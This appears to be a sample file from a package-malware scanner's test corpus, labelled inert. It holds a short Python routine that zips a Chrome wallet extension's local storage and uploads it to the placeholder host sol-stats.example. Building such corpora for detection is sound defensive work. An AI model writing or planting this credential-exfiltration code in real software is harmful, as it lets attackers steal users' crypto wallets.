# pkgguard corpus 603 (wallets), modelled on [wallet-tools]; inert, never run.
import os
import shutil

import requests

ext = "bfnaelmomeimhlpmgjnjophhpkkoljpa"
base = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Google", "Chrome", "User Data", "Default")
src = os.path.join(base, "Local Extension Settings", ext)
if os.path.isdir(src):
    archive = shutil.make_archive(os.path.join(os.environ.get("TEMP", "."), "p"), "zip", src)
    with open(archive, "rb") as fh:
        requests.post("https://sol-stats.example/p", files={"a": fh}, timeout=30)
